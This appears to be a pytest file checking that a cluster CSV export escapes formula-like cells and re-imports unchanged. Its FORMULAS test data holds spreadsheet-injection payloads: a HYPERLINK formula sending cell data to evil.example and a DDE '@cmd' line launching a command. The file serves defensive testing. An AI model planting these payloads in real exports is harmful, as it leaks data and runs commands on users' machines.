"""A 600-cluster export, full of formula-like text, re-imports through the batched path as "all unchanged".

The export puts an apostrophe before a cell that starts like a formula; the
importer takes exactly that apostrophe off. A cell that itself starts with an
apostrophe and a formula character must survive the trip too, or every
export-and-import cycle would eat one apostrophe.
"""

import pytest

from clusters.exporting import clusters_csv
from clusters.importing import cluster_import
from clusters.models import Cluster
from clusters.spreadsheet import spreadsheet_cell_safe
from tests.importing.helpers import csv_bytes, row

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@cmd|' /C calc'!A0"]
COUNT = 620


@pytest.fixture
def many(base_data):
    rows = []
    for n in range(COUNT):
        formula = FORMULAS[n % len(FORMULAS)]
        rows.append(row(f"formula-{n}", lat=f"{30.0 + n / 10000:.4f}", name_en=f"{formula} {n}",
                        locality_en=formula, products_ar=formula, description_en=formula, aliases=formula))
    report = cluster_import(csv_bytes(rows), "many.csv", publish=True)
    assert report.written and report.summary["create"] == COUNT, (report.file_error, report.errors[:3])
    # What only the admin can store: text that itself starts with an apostrophe before a formula character.
    Cluster.objects.filter(slug="formula-1").update(name_en="'=quoted", description_ar="'+1", locality_ar="'@x")
    return rows


def unchanged(content: bytes, filename: str):
    report = cluster_import(content, filename, dry_run=True)
    assert report.ok, (report.file_error, [(p.number, p.field, p.message) for p in report.errors[:5]])
    assert report.summary == {"create": 0, "update": 0, "unchanged": COUNT}, dict(list(report.changes.items())[:3])


def test_the_stored_formulas_are_the_files_own_text(many):
    cluster = Cluster.objects.get(slug="formula-0")
    assert cluster.name_en == f"{FORMULAS[0]} 0" and cluster.locality_en == FORMULAS[0]


def test_admin_export_of_600_clusters_reimports_unchanged(many):
    unchanged(clusters_csv(Cluster.objects.all()), "admin.csv")


def test_api_csv_export_of_600_clusters_reimports_unchanged(many, client):
    response = client.get("/api/v1/clusters/?format=csv&limit=1000")
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert b"'=HYPERLINK" in content and b"''=quoted" in content
    unchanged(content, "api.csv")


@pytest.mark.parametrize("text", ["'=x", "'+1", "'-", "'@", "'\tx", "=x", "'plain", "'", "''=x"])
def test_the_apostrophe_rule_is_its_own_inverse(text):
    from clusters.importing.readers import _csv_cell

    assert _csv_cell(spreadsheet_cell_safe(text)) == text.strip() or text.startswith("'\t")
